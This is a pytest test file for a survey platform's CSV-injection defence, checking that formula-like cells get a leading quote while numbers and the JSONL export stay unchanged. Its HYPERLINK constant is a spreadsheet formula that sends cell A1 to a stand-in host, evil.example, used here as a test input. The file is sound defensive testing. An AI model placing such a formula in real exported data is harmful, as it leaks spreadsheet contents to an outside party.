"""CSV injection: a text cell a spreadsheet would run as a formula gets a leading ' in every CSV the app writes.

OWASP's CSV Injection advice: cells starting with =, +, -, @, tab or carriage return are prefixed
with a single quote. Expected cells are written out by hand below; numbers stay numbers and the
JSONL stays raw.
"""

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from sqlmodel import select

from engines.platform.bots import run_bot
from engines.platform.csv_safety import csv_bytes, frame_csv_bytes, map_csv_cells, neutralise_csv
from engines.platform.db import write_transaction
from engines.platform.export import export_study
from engines.platform.models import Participant, StepResponse
from studies.demo_survey import PlayerBot

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def _set_comment(external_id: str, text: str) -> None:
    """Write a participant's free-text survey comment by hand (the demo bot always writes a harmless one)."""
    with write_transaction() as session:
        participant = session.exec(select(Participant).where(Participant.external_id == external_id)).one()
        survey = session.exec(select(StepResponse).where(StepResponse.participant_id == participant.id,
                                                         StepResponse.step_name == "Survey")).one()
        survey.data = {**survey.data, "comments": text}
        session.add(survey)


def test_formula_comment_is_written_with_a_leading_quote():
    content = csv_bytes(["participant_id", "value"], [{"participant_id": 7, "value": HYPERLINK}])
    # The csv module quotes the cell (it holds commas and quotes) and doubles the inner quotes.
    assert content == (b'participant_id,value\r\n'
                       b'7,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")"\r\n')


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
])
def test_each_formula_prefix_is_neutralised(text, written):
    assert _cells(csv_bytes(["value"], [{"value": text}]))[1] == [written]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    """Unquoted, the bare CR would end the row and put a live =HYPERLINK at the start of the next one."""
    content = csv_bytes(["value"], [{"value": "fine\r=HYPERLINK(1)"}])
    assert content == b'value\r\n"fine\r=HYPERLINK(1)"\r\n'


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    content = csv_bytes(["delta", "count", "note"], [{"delta": -0.5, "count": -3, "note": "a = b, 1+1"}])
    assert content == b'delta,count,note\r\n-0.5,-3,"a = b, 1+1"\r\n'


def test_dataframe_download_neutralises_text_and_keeps_numbers():
    """The interactions table a page offers as CSV: a text column and a numeric one."""
    frame = pd.DataFrame({"external_id": ["@evil", "p-1"], "err_harm": [-0.5, 1.0]})
    assert frame_csv_bytes(frame) == b"external_id,err_harm\r\n'@evil,-0.5\r\np-1,1.0\r\n"


def test_csv_a_study_writes_itself_is_neutralised_but_its_numbers_are_kept():
    """A study's ``export_files`` may write CSV with pandas: read back, -0.5 is a number and -1+1 is not."""
    written_by_a_study = b"x,y\n-0.5,-1+1\n+3,@me\n1e-3,\t\n"
    assert neutralise_csv(written_by_a_study) == b"x,y\r\n-0.5,'-1+1\r\n+3,'@me\r\n1e-3,'\t\r\n"


def test_study_export_neutralises_a_comment_in_responses_csv(demo_study):
    run_bot(demo_study, PlayerBot("diligent"), "exp-1")
    _set_comment("exp-1", HYPERLINK)
    responses = list(csv.DictReader(io.StringIO(export_study(demo_study).files["responses.csv"].decode())))
    (comment,) = [r["value"] for r in responses if r["field"] == "comments"]
    assert comment == "'" + HYPERLINK


def test_study_export_keeps_the_comment_raw_in_the_jsonl(demo_study):
    run_bot(demo_study, PlayerBot("diligent"), "exp-1")
    _set_comment("exp-1", HYPERLINK)
    (line,) = export_study(demo_study).files["responses.jsonl"].decode().splitlines()
    survey = next(r for r in json.loads(line)["responses"] if r["step_name"] == "Survey")
    assert survey["data"]["comments"] == HYPERLINK


def test_study_export_keeps_numeric_answers_numeric(demo_study):
    run_bot(demo_study, PlayerBot("diligent"), "exp-1")
    responses = list(csv.DictReader(io.StringIO(export_study(demo_study).files["responses.csv"].decode())))
    assert [r["value"] for r in responses if r["field"] == "age"] == ["34"]  # the bot's answer, no quote


def test_export_readme_states_the_quote_rule_and_the_raw_jsonl(demo_study):
    readme = export_study(demo_study).files["README.txt"].decode()
    assert "begins with =, +, -, @, a tab or a carriage return starts with an added single quote (')" in readme
    assert "The JSON files (responses.jsonl, study_config.json) are raw" in readme


def test_no_code_outside_csv_safety_writes_csv():
    """Every CSV goes through ``engines.platform.csv_safety``: a new writer elsewhere must use it instead."""
    writer = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [f"{path.relative_to(ROOT)}:{n}" for folder in ("engines", "pages", "studies", "bench", "app.py")
                 for path in ([ROOT / folder] if folder.endswith(".py") else sorted((ROOT / folder).rglob("*.py")))
                 if path.name != "csv_safety.py"
                 for n, line in enumerate(path.read_text().splitlines(), 1) if writer.search(line)]
    assert offenders == []


# --- The writers' other rules, byte for byte ---------------------------------------------------


def test_a_header_that_looks_like_a_formula_is_neutralised():
    assert csv_bytes(["=cmd", "note"], [{"=cmd": 1, "note": "x"}]) == b"'=cmd,note\r\n1,x\r\n"


def test_a_missing_key_is_an_empty_cell_and_none_is_empty_too():
    assert csv_bytes(["a", "b", "c"], [{"a": 1, "c": None}]) == b"a,b,c\r\n1,,\r\n"


def test_a_key_outside_the_columns_is_refused_by_default():
    with pytest.raises(ValueError, match="fields not in fieldnames"):
        csv_bytes(["a"], [{"a": 1, "secret": "x"}])


def test_a_key_outside_the_columns_can_be_dropped():
    assert csv_bytes(["a"], [{"a": 1, "secret": "x"}], extra="ignore") == b"a\r\n1\r\n"


def test_lists_and_dicts_are_written_as_json():
    """json.dumps by hand: ``[1, "=x"]`` and ``{"k": "-1"}``, the inner quotes doubled by the csv module."""
    content = csv_bytes(["a", "b"], [{"a": [1, "=x"], "b": {"k": "-1"}}])
    assert content == b'a,b\r\n"[1, ""=x""]","{""k"": ""-1""}"\r\n'


def test_booleans_are_written_as_they_are():
    assert csv_bytes(["ok"], [{"ok": True}, {"ok": False}]) == b"ok\r\nTrue\r\nFalse\r\n"


def test_an_empty_file_a_study_writes_stays_empty():
    assert neutralise_csv(b"") == b""


def test_the_header_of_a_file_a_study_writes_is_neutralised():
    assert neutralise_csv(b"=cmd,-x\n1,2\n") == b"'=cmd,'-x\r\n1,2\r\n"


@pytest.mark.parametrize(("cell", "written"), [
    ("-.5", "-.5"), ("+5.", "+5."), ("-1E+3", "-1E+3"), ("-1e3", "-1e3"), ("-12.25e-2", "-12.25e-2"), ("+0", "+0"),
    ("-", "'-"), ("-1e", "'-1e"), ("-e3", "'-e3"), ("-1.2.3", "'-1.2.3"), ("-1 ", "'-1 "), ("+-1", "'+-1"),
    ("-.", "'-."), ("-1e+", "'-1e+"), ("-0x1F", "'-0x1F"),
])
def test_only_whole_plain_numbers_keep_their_sign_unquoted(cell, written):
    """Numbers as a spreadsheet reads them (sign, digits, one point, an exponent); anything else is text."""
    assert _cells(neutralise_csv(f"x\n{cell}\n".encode()))[1] == [written]


def test_each_body_cell_is_mapped_with_its_column_name():
    """A row longer than the header: the extra cell has no column name."""
    content = map_csv_cells(b"a,b\r\n1,2,3\r\n", lambda column, value: f"{column}:{value}")
    assert content == b"a,b\r\na:1,b:2,:3\r\n"


def test_mapping_an_empty_file_returns_it_unchanged():
    assert map_csv_cells(b"", lambda column, value: "changed") == b""


def test_a_dataframe_header_that_looks_like_a_formula_is_neutralised():
    frame = pd.DataFrame({"=cmd": ["x"], "n": [2]})
    assert frame_csv_bytes(frame) == b"'=cmd,n\r\nx,2\r\n"


def test_a_file_a_study_writes_with_bare_carriage_returns_is_read_row_by_row():
    """Old Mac line ends ("\\r" alone) still separate rows; the file comes back with RFC 4180's CRLF."""
    assert neutralise_csv(b"x\r-1+1\r") == b"x\r\n'-1+1\r\n"


def test_a_line_break_inside_a_quoted_cell_of_a_study_file_is_kept_exactly():
    assert neutralise_csv(b'x\r\n"a\r\nb"\r\n') == b'x\r\n"a\r\nb"\r\n'
